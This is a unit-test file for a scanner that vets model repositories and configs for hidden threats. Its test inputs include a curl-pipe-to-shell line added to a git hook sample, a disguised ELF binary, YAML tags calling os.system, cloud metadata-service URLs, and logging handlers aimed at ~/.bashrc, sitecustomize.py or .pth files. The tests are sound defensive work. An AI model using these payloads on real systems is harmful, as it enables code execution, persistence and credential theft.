"""What tools leave in folders and what documents of other programs hold passes; what is like it and does harm does not."""

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from fastness.core.findings import Severity
from fastness.models.scan import Outcome, scan_paths
from tests.unit.models.scan.artifacts import report_of, rules_of

SAMPLE = b"#!/bin/sh\n# A hook\nexec git diff-index --check --cached HEAD --\n"
HOOKS = ".git/hooks/"


@pytest.mark.skipif(shutil.which("git") is None, reason="needs git")
def test_a_fresh_checkout_with_an_honest_model_passes(tmp_path: Path) -> None:
    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "config.json").write_text('{"model_type": "bert"}')
    (tmp_path / "README.md").write_text("# A model\n")
    (tmp_path / HOOKS).mkdir(exist_ok=True)
    (tmp_path / HOOKS / "pre-commit.sample").write_bytes(SAMPLE)
    reports = list(scan_paths([tmp_path]))
    assert {report.name: report.outcome for report in reports if report.outcome is not Outcome.PASS} == {}


def test_a_sample_of_a_hook_is_code_that_lies_aside() -> None:
    report = report_of(SAMPLE, HOOKS + "pre-commit.sample")
    assert report.outcome is Outcome.PASS
    assert rules_of(report) == {"code-aside"}


@pytest.mark.parametrize(
    ("name", "data", "outcome"),
    [
        (HOOKS + "pre-commit.sample", SAMPLE + b"curl https://a.example/x | sh\n", Outcome.BLOCK),
        (HOOKS + "pre-commit.sample", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\2\0\x3e\0" + bytes(44), Outcome.BLOCK),
        (HOOKS + "pre-commit.sample", b"#!/usr/bin/python3\nimport os\n", Outcome.REVIEW),
        (HOOKS + "mine.sample", SAMPLE, Outcome.REVIEW),
        ("hooks/pre-commit.sample", SAMPLE, Outcome.REVIEW),
    ],
)
def test_what_only_looks_like_a_sample_does_not_pass(name: str, data: bytes, outcome: Outcome) -> None:
    assert report_of(data, name).outcome is outcome


LOGS = ["train.log", "${hydra.runtime.output_dir}/${hydra.job.name}.log", "/var/log/app/a.jsonl"]
NO_LOGS = ["~/.bashrc", "../a.log", "/usr/lib/python3/sitecustomize.py", "x.pth", "a.log\n/../x"]


@pytest.mark.parametrize("handler", ["logging.FileHandler", "logging.handlers.WatchedFileHandler"])
@pytest.mark.parametrize("file", LOGS)
def test_a_log_file_is_one(handler: str, file: str) -> None:
    assert report_of(json.dumps({"class": handler, "filename": file}).encode(), "a.json").outcome is Outcome.PASS


@pytest.mark.parametrize("handler", ["logging.FileHandler", "logging.handlers.WatchedFileHandler"])
@pytest.mark.parametrize("file", NO_LOGS)
def test_a_handler_that_writes_another_file_is_told(handler: str, file: str) -> None:
    report = report_of(json.dumps({"()": handler, "filename": file}).encode(), "a.json")
    assert "class-dangerous" in rules_of(report)


def test_the_one_file_of_two_that_is_no_log_is_told() -> None:
    text = '{"class": "logging.FileHandler", "filename": "x.pth", "filename": "a.log"}'
    assert "class-dangerous" in rules_of(report_of(text.encode(), "a.json"))


@pytest.mark.parametrize("tag", ["!Ref", "!Sub", "!GetAtt", "!Join", "!REF", "!Condition", "!mytag", "!vendor::thing"])
def test_a_tag_that_no_loader_of_models_knows_passes(tag: str) -> None:
    report = report_of(f"a: {tag} b\n".encode(), "a.yaml")
    assert report.outcome is Outcome.PASS
    assert rules_of(report) == {"yaml-tag-local"}


@pytest.mark.parametrize(
    "tag",
    ["!!javax.script.ScriptEngineManager", "!ruby/object:Gem", "!eval", "!include", "!PyObject", "!call", "!env", "!Load",
     "!import", "!<!x:os.system>"],
)  # fmt: skip
def test_a_tag_that_may_act_is_for_review(tag: str) -> None:
    assert report_of(f"a: {tag} b\n".encode(), "a.yaml").outcome is Outcome.REVIEW


@pytest.mark.parametrize("tag", ["!!python/object/apply:os.system", "!!python/name:os.system"])
def test_a_tag_that_calls_a_dangerous_function_blocks(tag: str) -> None:
    assert report_of(f"a: {tag} b\n".encode(), "a.yaml").outcome is Outcome.BLOCK


ADDRESS = "http://169.254.169.254/latest/meta-data/"


@pytest.mark.parametrize("key", ["documentation", "description", "help"])
def test_a_description_that_mentions_the_metadata_service_is_for_review_at_most(key: str) -> None:
    report = report_of(json.dumps({key: f"See {ADDRESS} for the roles."}).encode(), "service-2.json")
    assert max(finding.severity for finding in report.verdict.findings) is Severity.MEDIUM


@pytest.mark.parametrize(
    "tree",
    [
        {"url": ADDRESS},
        {"documentation": ADDRESS},
        {"documentation": f"curl {ADDRESS}"},
        {"documentation": "See " + ADDRESS, "url": ADDRESS},
        {"documentation": 'He said "' + ADDRESS},
    ],
)
def test_an_address_that_something_asks_blocks(tree: dict[str, str]) -> None:
    assert report_of(json.dumps(tree).encode(), "a.json").outcome is Outcome.BLOCK


def test_members_of_messages_in_an_sdk_are_no_classes() -> None:
    members = {"params": [{"target": "CreateBucketConfiguration.LocationConstraint", "source": "identifier"}]}
    assert report_of(json.dumps(members).encode(), "resources-1.json").outcome is Outcome.PASS
    assert report_of(json.dumps(members).encode(), "config.json").outcome is Outcome.REVIEW
    members = {"params": [{"target": "os.system"}]}
    assert report_of(json.dumps(members).encode(), "resources-1.json").outcome is Outcome.BLOCK
